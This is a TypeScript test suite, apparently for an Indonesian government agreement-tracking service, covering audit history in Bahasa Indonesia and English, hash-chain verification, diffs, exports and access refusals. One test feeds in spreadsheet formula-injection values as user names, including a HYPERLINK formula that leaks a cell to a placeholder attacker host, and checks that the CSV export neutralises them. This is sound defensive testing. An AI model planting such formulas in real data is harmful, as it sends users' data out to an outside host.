import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { promisify } from 'node:util';
import { activeMou, cast, draftMou, expectStatus, LOCATIONS, sha256 } from '../support/agreement-scenarios';
import { KEMENDES } from '../support/domain/officials';
import { callerFor, storedEventCount } from '../support/http-client';
import { startTestApp, type TestApp } from '../support/test-app';
import { temporaryDirectory, type TemporaryDirectory } from '../support/temporary-directory';

const run = promisify(execFile);

/** Asks for the English lines the tests written before the history spoke Bahasa Indonesia expect. */
const IN_ENGLISH = { headers: { 'accept-language': 'en' } };

interface HistoryItem {
  revision: number;
  type: string;
  summary: string;
  actor: { name: string; roles: string[]; agencyId: string };
  prevHash: string;
  hash: string;
  correlationId: string;
  workflow: { name: string; version: number };
  recordedAt: string;
  occurredAt: string;
}

describe('the auditor’s side', () => {
  let service: TestApp;
  let people: Awaited<ReturnType<typeof cast>>;
  let id: string;
  let files: TemporaryDirectory;

  beforeAll(async () => {
    service = await startTestApp();
    people = await cast(service);
    ({ id } = await activeMou(people));
    expectStatus(await people.kemendesCoordinator.act(id, 'propose-locations', { locations: LOCATIONS }), 200);
    files = await temporaryDirectory();
  });

  afterAll(async () => {
    await service.close();
    await files.remove();
  });

  it('lists the history with its envelope and a readable line per event, paged', async () => {
    const first = await people.auditor.get(`/agreements/${id}/history?limit=5`, IN_ENGLISH);
    expectStatus(first, 200);
    const page = first.json<{ items: HistoryItem[]; nextRevision: number }>();
    expect(page.items.map((item) => item.revision)).toEqual([0, 1, 2, 3, 4]);
    expect(page.nextRevision).toBe(5);
    expect(page.items[0]).toMatchObject({
      type: 'AgreementDrafted',
      actor: { agencyId: 'kemendes-pdtt', roles: ['DRAFTER'] },
      workflow: { name: 'nota-kesepahaman', version: 2 },
      prevHash: '0'.repeat(64),
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      correlationId: expect.any(String),
      recordedAt: expect.any(String),
      occurredAt: expect.any(String),
    });
    expect(page.items[4].summary).toMatch(
      /^Biro Hukum Kemendes PDTT \(LEGAL_REVIEWER\) gave legal clearance to sha256:[0-9a-f]{8}… for Kementerian Desa/,
    );
    expect(page.items[1].prevHash).toBe(page.items[0].hash);

    const rest = (await people.kemendesDrafter.get(`/agreements/${id}/history?fromRevision=5&limit=100`, IN_ENGLISH)).json<{
      items: HistoryItem[];
      nextRevision?: number;
    }>();
    expect(rest.items[0].revision).toBe(5);
    expect(rest.nextRevision).toBeUndefined();
    expect(rest.items.map((i) => i.summary)).toContainEqual(
      expect.stringMatching(/Hj\. Noormiliyani AS signed sha256:.* for Pemerintah Kabupaten Barito Kuala/),
    );
  });

  it('writes each line in Bahasa Indonesia, or in English for a reader who asks for it, and says which', async () => {
    const url = `/agreements/${id}/history?limit=5`;
    const unasked = await people.auditor.get(url);
    const indonesian = await people.auditor.get(url, { headers: { 'accept-language': 'id-ID' } });
    const english = await people.auditor.get(url, { headers: { 'accept-language': 'fr-FR, en-GB;q=0.9, id;q=0.5' } });

    for (const [answer, language] of [
      [unasked, 'id'],
      [indonesian, 'id'],
      [english, 'en'],
    ] as const) {
      expectStatus(answer, 200);
      expect(answer.headers).toMatchObject({ 'content-language': language, vary: 'Accept-Language' });
    }
    const summaries = (answer: typeof unasked) => answer.json<{ items: HistoryItem[] }>().items.map((item) => item.summary);
    expect(summaries(unasked)[4]).toMatch(
      /^Biro Hukum Kemendes PDTT \(LEGAL_REVIEWER\) memberikan persetujuan hukum atas sha256:[0-9a-f]{8}… untuk Kementerian Desa/,
    );
    expect(summaries(indonesian)).toEqual(summaries(unasked));
    expect(summaries(english)[4]).toMatch(
      /^Biro Hukum Kemendes PDTT \(LEGAL_REVIEWER\) gave legal clearance to sha256:[0-9a-f]{8}… for Kementerian Desa/,
    );
    // Only the lines change with the language: the envelope is the log's.
    const withoutSummaries = (answer: typeof unasked) =>
      answer.json<{ items: HistoryItem[] }>().items.map(({ summary: _summary, ...item }) => item);
    expect(withoutSummaries(english)).toEqual(withoutSummaries(unasked));
    // A refusal is not a history line: it names no language.
    expect((await people.banjarCoordinator.get(url, IN_ENGLISH)).headers['content-language']).toBeUndefined();
  });

  it('verifies the chain and the replay', async () => {
    const response = await people.auditor.get(`/agreements/${id}/verify`);

    expectStatus(response, 200);
    expect(response.json()).toEqual({ id, valid: true, checkedEvents: 14 });
  });

  it('diffs two revisions', async () => {
    const response = await people.auditor.get(`/agreements/${id}/diff?from=11&to=13`);

    expectStatus(response, 200);
    expect(response.json()).toMatchObject({
      from: { revision: 11, state: 'executed' },
      to: { revision: 13, state: 'active' },
      changes: [
        { path: 'effectiveDate', after: '2020-03-10' },
        { path: 'proposedLocations', after: LOCATIONS },
      ],
    });
    expectStatus(await people.auditor.get(`/agreements/${id}/diff?from=0&to=99`), 422);
  });

  it('exports JSON and CSV that the standalone verifier checks offline, and catches a changed byte', async () => {
    for (const format of ['json', 'csv'] as const) {
      const response = await people.auditor.get(`/agreements/${id}/export?format=${format}`);
      expectStatus(response, 200);
      expect(response.headers['content-disposition']).toBe(`attachment; filename="agreement-${id}.${format}"`);
      const file = files.file(`export.${format}`);
      writeFileSync(file, response.body);

      const { stdout } = await run(process.execPath, ['scripts/verify-export.mjs', file]);
      expect(stdout).toMatch(new RegExp(`^OK agreement-${id}: 14 events, hash chain intact`));

      writeFileSync(file, response.body.replace('Pengembangan Desa Percontohan', 'Pengembangan Desa Percontohax'));
      const tampered = run(process.execPath, ['scripts/verify-export.mjs', file]);
      await expect(tampered).rejects.toMatchObject({
        code: 1,
        stdout: expect.stringContaining('revision 0: the content does not match its hash'),
      });
    }
  });

  it('neutralises CSV cells a spreadsheet would run as formulas, and the verifier still verifies the export', async () => {
    // Names come from tokens, which users can often edit at their identity provider.
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klik")', '+62 811 555', '-1+1', '@SUM(A1:A9)', "'=quoted already"];
    const { id: target } = await draftMou(people);
    for (const [index, name] of names.entries()) {
      const official = await callerFor(service, { sub: `${name.charAt(0)}official-${index}`, name, agency: KEMENDES, roles: ['DRAFTER'] });
      expectStatus(await official.act(target, 'attach-document', { type: 'KAK', sha256: sha256(name), name: `kak-${index}.pdf` }), 200);
    }

    const response = await people.auditor.get(`/agreements/${target}/export?format=csv`);

    expectStatus(response, 200);
    const [header, ...rows] = csvRows(response.body);
    const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(
      response.body
        .split('\r\n')
        .filter(Boolean)
        .every((line) => line.startsWith('"') && line.endsWith('"')),
    ).toBe(true);
    expect(column('actor_name').slice(-names.length)).toEqual(names.map((name) => `'${name}`));
    expect(column('actor_id').slice(-names.length)).toEqual(names.map((name, index) => `'${name.charAt(0)}official-${index}`));
    // Taking one leading quote away restores every value exactly, as the JSON export holds it.
    const json = (await people.auditor.get(`/agreements/${target}/export?format=json`)).json<{
      events: Array<{ metadata: { actor: { name: string } } }>;
    }>();
    expect(column('actor_name').map((cell) => (cell.startsWith("'") ? cell.slice(1) : cell))).toEqual(
      json.events.map((event) => event.metadata.actor.name),
    );

    const file = files.file('formulas.csv');
    writeFileSync(file, response.body);
    const { stdout } = await run(process.execPath, ['scripts/verify-export.mjs', file]);
    expect(stdout).toMatch(new RegExp(`^OK agreement-${target}: ${2 + names.length} events, hash chain intact`));
  });

  it('records who read what, for auditors and administrators to see', async () => {
    const reads = await people.auditor.get(`/audit/reads?agreementId=${id}&limit=50`);

    expectStatus(reads, 200);
    const entries = reads.json<Array<{ actor: { id: string }; read: string; agreementId: string; at: string }>>();
    expect(entries.map((e) => e.read)).toEqual(expect.arrayContaining(['history', 'verify', 'diff', 'export']));
    expect(entries.find((e) => e.read === 'export')).toMatchObject({
      actor: { id: 'itjen-1' },
      agreementId: id,
      detail: { format: 'csv' },
    });
    expect(entries.find((e) => e.read === 'history' && e.actor.id === 'blm-bjm-1')).toBeDefined();
    expectStatus(await people.kemendesCoordinator.get('/audit/reads'), 403);
  });

  describe('refusals', () => {
    const routes = (agreement: string) => [
      `/agreements/${agreement}/history`,
      `/agreements/${agreement}/verify`,
      `/agreements/${agreement}/export?format=json`,
      `/agreements/${agreement}/diff?from=0&to=1`,
    ];

    it('answers 404 to an official of an agency that is no party, and records no read', async () => {
      const before = await storedEventCount(service);
      for (const url of routes(id)) expectStatus(await people.banjarCoordinator.get(url), 404);
      expect(await storedEventCount(service)).toBe(before);
    });

    it('answers 404 for an agreement that does not exist and 401 without a token', async () => {
      for (const url of routes('3b0f8d0e-6d1e-4c5e-9d8e-1f2a3b4c5d6e')) expectStatus(await people.auditor.get(url), 404);
      for (const url of routes(id)) expectStatus(await service.app.inject({ method: 'GET', url }), 401);
    });

    it('answers 400 to a bad page, format or range', async () => {
      expectStatus(await people.auditor.get(`/agreements/${id}/history?limit=0`), 400);
      expectStatus(await people.auditor.get(`/agreements/${id}/export?format=xml`), 400);
      expectStatus(await people.auditor.get(`/agreements/${id}/diff?from=a&to=1`), 400);
    });

    it('lets administrators read, like auditors', async () => {
      expectStatus(await people.admin.get(`/agreements/${id}/verify`), 200);
    });
  });
});

/** The rows of an RFC 4180 text: quoted cells may hold commas, doubled quotes and line breaks. */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else if (c !== '\r') cell += c;
  }
  return rows;
}
